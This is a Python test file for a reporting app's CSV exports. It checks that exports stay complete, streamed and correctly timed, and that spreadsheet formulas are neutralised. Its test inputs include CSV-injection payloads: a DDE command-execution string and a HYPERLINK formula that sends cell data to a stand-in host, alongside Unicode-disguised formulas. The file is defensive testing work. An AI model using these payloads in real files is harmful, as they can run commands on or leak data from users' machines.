"""Exports: harmless in a spreadsheet, stable, complete, and streamed."""

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from reports.export import FIGURE_COLUMNS, MENTION_COLUMNS, PAGE, guarded, line, mentions_csv
from reports.period import last_days
from reports.report import Report, build
from storage.tables import MentionRow
from tests.reports.conftest import NOW, History

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    '=HYPERLINK("http://x.example?"&A1,"click")', "=\x00A",
    "\x00=1+1", "-", "--", "@norda where is my train", '"=1+1', "'=1+1", "+385 1 555 0100",
    "=1+1\r\n=2+2", ";=1+1", "a,=1",
)  # fmt: skip
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[-+]?\d+)?")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def dangerous(cell: str) -> bool:
    """As spreadsheets see it: a formula starts the cell, as it stands or after blanks; a plain number is none."""
    start = cell.lstrip(" \u00a0\u200b\u200c\u200d\ufeff\x00")
    return ((cell[:1] in "=+-@\t\r\n" and cell != "") or start[:1] in tuple("=+-@＝＋－＠")) and not NUMBER.fullmatch(
        cell
    )


async def report_of(history: History, days: int = 28) -> Report:
    async with history.db.read() as session:
        return await build(session, [history.brand], last_days(days, "Australia/Adelaide", NOW), "", NOW)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_survives_and_nothing_is_lost(text: str):
    (row,) = parsed(line([text, "next"]))
    assert not dangerous(row[0])
    assert row[1] == "next"
    assert row[0].removeprefix("'") == text.replace("\x00", "").removeprefix("'")


def test_numbers_of_ours_stay_numbers():
    assert line([-0.55, -3, 0, None, True]) == "-0.55,-3,0,,yes\r\n"
    assert guarded("-0.55") == "'-0.55"


def test_the_corpus_of_naughty_strings_goes_through_unharmed(shared: Path):
    strings = json.loads((shared / "hostile" / "blns.json").read_text("utf-8"))
    assert len(strings) > 400
    for text in strings:
        (row,) = parsed(line([text, "next"]))
        assert not dangerous(row[0]), ascii(text)
        assert row[1] == "next"


async def test_every_text_of_a_post_is_guarded(sqlite_history: History):
    async with sqlite_history.db.write() as session:
        connection = await session.connection()
        ids = [row[0] for row in await connection.exec_driver_sql("SELECT id FROM mention WHERE status = 'kept'")]
        for row_id, nasty in zip(ids, FORMULAS * 20, strict=False):
            names = ("title", "text", "author_name", "author_handle", "thread_id", "url")
            sets = ", ".join(f"{name} = ?" for name in names)
            await connection.exec_driver_sql(f"UPDATE mention SET {sets} WHERE id = ?", (*[nasty] * len(names), row_id))
        await connection.exec_driver_sql("UPDATE topic SET name = '=1+' || name")
        await connection.exec_driver_sql("UPDATE source SET name = '@' || name")
        await connection.exec_driver_sql(
            "INSERT INTO transition (id, brand_id, noun, row_id, old, new, actor, at, why)"
            " SELECT (SELECT max(id) + 1 FROM transition), t.brand_id, 'reply', t.row_id, 'drafted', 'rejected',"
            " 'user:1', max(t.at), '=now()' FROM transition t JOIN reply r ON r.id = t.row_id"
            " WHERE t.new = 'rejected' AND r.status = 'rejected'"
        )
        await connection.exec_driver_sql("UPDATE brand SET name = '=Norda()' WHERE slug = 'norda'")
    browser = await sqlite_history.browser()
    for path in ("mentions.csv?days=90", "figures.csv?days=90"):
        rows = parsed((await browser.get(f"/reports/{path}")).text)
        assert len(rows) > 50
        assert [cell for row in rows for cell in row if dangerous(cell)] == []
        assert any(cell.startswith("'=") for row in rows for cell in row)


async def test_every_item_heard_is_exported_once_with_both_times(history: History):
    report = await report_of(history)
    answer = await (await history.browser()).get("/reports/mentions.csv?days=28&zone=Australia/Adelaide")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="earshot-mentions-2026-03-25-2026-04-21.csv"' in answer.headers["content-disposition"]
    rows = parsed(answer.text)
    assert tuple(rows[0]) == MENTION_COLUMNS
    notes = [row[0] for row in rows if row[0].startswith("# ")]
    posts = [dict(zip(rows[0], row, strict=True)) for row in rows[1:] if not row[0].startswith("# ")]
    assert len({post["id"] for post in posts}) == len(posts) == report.here.volume.raw
    counted = [post for post in posts if post["counted"] == "yes"]
    assert len(counted) == report.here.volume.mentions
    assert sum(post["feeling_corrected"] == "yes" for post in counted) == report.here.volume.corrected > 0
    for post in posts:
        utc, local = (datetime.fromisoformat(post[f"posted_at_{name}"]) for name in ("utc", "local"))
        assert utc == local
        assert local.utcoffset() in (timedelta(hours=9.5), timedelta(hours=10.5))
    assert notes[-1] == f"# end: {len(posts)} rows"
    assert any(note.startswith("# gap: Rail talk (rss) not seen") for note in notes)
    assert any(note.startswith("# volume: Mentions (count). Posts written in the period") for note in notes)


async def test_figures_are_exported_with_period_zone_unit_and_definitions(history: History):
    browser = await history.browser()
    rows = parsed((await browser.get("/reports/figures.csv?days=7")).text)
    assert tuple(rows[0]) == FIGURE_COLUMNS
    told = {(row[0], row[1]): row for row in rows[1:] if not row[0].startswith("# ")}
    as_json = (await browser.get_json("/reports?days=7")).json["figures"]
    assert len(told) == len(as_json)
    for each in as_json:
        row = told[each["figure"], each["group"].removeprefix("'")]
        assert row[3] == ("" if each["value"] is None else f"{each['value']:.6g}" if isinstance(each["value"], float)
                          else str(each["value"]))  # fmt: skip
    notes = [row[0] for row in rows if row[0].startswith("# ")]
    assert any("coverage of Rail talk (rss): seen" in note for note in notes)
    assert notes[-1] == f"# end: {len(told)} rows"


async def test_a_large_export_is_read_a_page_at_a_time_as_it_is_sent(sqlite_history: History):
    report = await report_of(sqlite_history)
    posted = datetime(2026, 4, 1, tzinfo=UTC)
    row = MentionRow(
        id=1, brand_id=1, source_id=1, channel="rss", external_id="e", thread_id="t", text="long " * 20,
        posted_at=posted, received_at=posted, text_hash=1,
    )  # fmt: skip
    asked: list[object] = []

    async def fetch(after):
        asked.append(after)
        return [(row, "feed", False)] * PAGE if len(asked) <= 5 else []

    read_when_sent, lines = [], 0
    async for chunk in mentions_csv(report, fetch):
        read_when_sent.append(len(asked))
        lines += chunk.count("\r\n")
    assert read_when_sent[:6] == [0, 1, 2, 3, 4, 5]
    assert asked == [None] + [(posted, 1)] * 5
    assert lines > 5 * PAGE
